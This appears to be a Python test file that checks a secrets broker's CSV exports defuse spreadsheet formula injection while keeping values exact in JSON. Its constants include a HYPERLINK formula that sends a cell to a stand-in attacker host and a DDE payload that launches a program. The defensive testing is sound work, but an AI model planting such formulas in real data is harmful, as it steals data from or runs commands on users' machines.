"""Issue 18, finding 4: CSV formula injection (docs/API.md, ``GET /v1/leases``: a cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return is prefixed with ``'``).

Repository, ref, branch and pipeline id come from ID tokens, including an outsider's refused one. The review
named a branch ``=HYPERLINK(...)`` and an auditor's spreadsheet ran it. Here real tokens carry such values,
one granted and some refused, and every CSV route exports them: the API's two and the pages' two downloads.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
from flask import Flask
from flask.testing import FlaskClient

from app.exports import defuse_formula
from tests.support.broker import Broker, bearer

REVIEWED = '=HYPERLINK("https://evil.example/?d="&B2,"x")'  # the review's: not a valid ref, so refused
HYPERLINK = '=HYPERLINK("evil.example/d="&B2,"x")'  # the same formula as a valid branch name, so granted
PIPELINE = "+SUM(1+1)*cmd|' /C calc'!A0"
OUTSIDER = "@evil/outsider"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(broker: Broker) -> dict[str, str]:
    """A lease granted to a hostile branch and pipeline id; refusals of hostile tokens (insider, outsider)."""
    broker.create(
        "/v1/policies",
        {
            "name": "any-branch",
            "issuer": "github",
            "secrets": ["prod-db-static"],
            "repositories": ["acme/payments"],
            "branches": ["**"],
            "windows": ["always"],
            "default_ttl": "15m",
            "max_ttl": "1h",
        },
    )
    token = broker.ci_token(ref=f"refs/heads/{HYPERLINK}", run_id=PIPELINE)
    granted = broker.request_lease("prod-db-static", token)
    assert granted.status_code == 201, granted.get_json()
    refused = broker.request_lease(
        "prod-vault-token", broker.ci_token(ref="refs/heads/-2+3", run_id="@SUM(A1)")
    )
    assert refused.status_code == 403, refused.get_json()
    reviewed = broker.request_lease("prod-db-static", broker.ci_token(ref=f"refs/heads/{REVIEWED}"))
    assert reviewed.status_code == 403, reviewed.get_json()
    outsider = broker.request_lease("prod-db-static", broker.ci_token(repo=OUTSIDER, ref="refs/heads/=1+1"))
    assert outsider.status_code == 403, outsider.get_json()
    return {"lease": granted.get_json()["id"]}


def _sign_in(app: Flask, token: str) -> FlaskClient:
    browser = app.test_client()
    csrf = re.search(r'name="csrf_token" value="([^"]+)"', browser.get("/ui/login").get_data(as_text=True))
    assert csrf, "no CSRF field on the sign-in page"
    signed = browser.post("/ui/login", data={"token": token, "next": "", "csrf_token": csrf.group(1)})
    assert signed.status_code == 303
    return browser


def _cells(body: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(body)))
    assert rows, "the export is empty"
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)
    return rows


def _undefused(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS) else cell


def _assert_lease_rows(rows: list[dict[str, str]], lease_id: str) -> None:
    (row,) = [row for row in rows if row["id"] == lease_id]
    assert row["branch"] == "'" + HYPERLINK
    assert row["pipeline_id"] == "'" + PIPELINE
    assert row["ref"] == f"refs/heads/{HYPERLINK}"  # does not start a formula: left exactly as it is
    assert json.loads(row["identity"])["branch"] == HYPERLINK  # JSON inside a cell stays JSON


def _assert_event_rows(rows: list[dict[str, str]]) -> None:
    branches = {_undefused(row["branch"]) for row in rows}
    assert {HYPERLINK, REVIEWED, "-2+3"} <= branches
    assert "'" + HYPERLINK in {row["branch"] for row in rows}
    assert "'" + OUTSIDER in {row["repository"] for row in rows}


def test_api_csv_exports_defuse_formulas_and_keep_the_values(
    broker: Broker, auditor_token: str, hostile: dict[str, str]
) -> None:
    leases = broker.client.get("/v1/leases?format=csv", headers=bearer(auditor_token))
    assert leases.status_code == 200 and leases.mimetype == "text/csv"
    _assert_lease_rows(_cells(leases.get_data(as_text=True)), hostile["lease"])

    events = broker.client.get("/v1/audit/events?format=csv", headers=bearer(auditor_token))
    assert events.status_code == 200 and events.mimetype == "text/csv"
    _assert_event_rows(_cells(events.get_data(as_text=True)))


def test_page_csv_downloads_defuse_formulas(
    app: Flask, broker: Broker, auditor_token: str, hostile: dict[str, str]
) -> None:
    browser = _sign_in(app, auditor_token)
    leases = browser.get("/ui/leases.csv")
    assert leases.status_code == 200 and leases.mimetype == "text/csv"
    _assert_lease_rows(_cells(leases.get_data(as_text=True)), hostile["lease"])

    events = browser.get("/ui/events.csv")
    assert events.status_code == 200 and events.mimetype == "text/csv"
    _assert_event_rows(_cells(events.get_data(as_text=True)))


def test_json_and_jsonl_keep_the_values_exactly(
    broker: Broker, auditor_token: str, hostile: dict[str, str]
) -> None:
    lease = broker.client.get(f"/v1/leases/{hostile['lease']}", headers=bearer(auditor_token)).get_json()
    assert lease["identity"]["branch"] == HYPERLINK and lease["identity"]["pipeline_id"] == PIPELINE
    lines = broker.client.get("/v1/leases?format=jsonl", headers=bearer(auditor_token)).get_data(as_text=True)
    (exported,) = [item for item in map(json.loads, lines.splitlines()) if item["id"] == hostile["lease"]]
    assert exported["branch"] == HYPERLINK and exported["pipeline_id"] == PIPELINE
    events = broker.client.get("/v1/audit/events?format=jsonl", headers=bearer(auditor_token))
    assert REVIEWED in {json.loads(line)["branch"] for line in events.get_data(as_text=True).splitlines()}


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("main", "main"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_defuse_formula(cell: str, written: str) -> None:
    assert defuse_formula(cell) == written
